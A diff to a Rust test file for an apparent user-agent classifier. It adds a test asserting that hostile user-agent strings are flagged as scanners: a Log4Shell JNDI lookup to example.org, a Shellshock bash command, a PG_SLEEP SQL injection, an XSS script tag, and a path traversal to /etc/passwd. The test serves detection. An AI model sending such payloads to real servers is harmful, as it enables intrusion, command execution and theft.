@@ -76,7 +76,7 @@ fn real_user_agents_are_told_apart() {
     );
 }
 
-/// Strings that no rule was written from, by the word of theirs that it goes by.
+/// Strings of others' fixtures, none of which a rule names whole, with where each was found.
 #[test]
 fn strangers_are_told_by_their_families() {
     let mut reader = csv::Reader::from_reader(&include_bytes!("../../tests/data/strangers.csv")[..]);
@@ -215,6 +215,19 @@ fn a_proxy_faster_than_any_person_is_unknown() {
             wanted,
             "{delta:?}"
         );
+    }
+}
+
+#[test]
+fn who_sends_code_is_a_scanner_whatever_it_wears() {
+    for user_agent in [
+        "${jndi:ldap://example.org/x}",
+        "() { :;}; /bin/bash -c 'id'",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' OR 1=(SELECT 1 FROM PG_SLEEP(15))--",
+        "<script>alert(1)</script>",
+        "../../../../etc/passwd",
+    ] {
+        assert_eq!(class(user_agent), HitClass::Scanner, "{user_agent}");
     }
 }
 
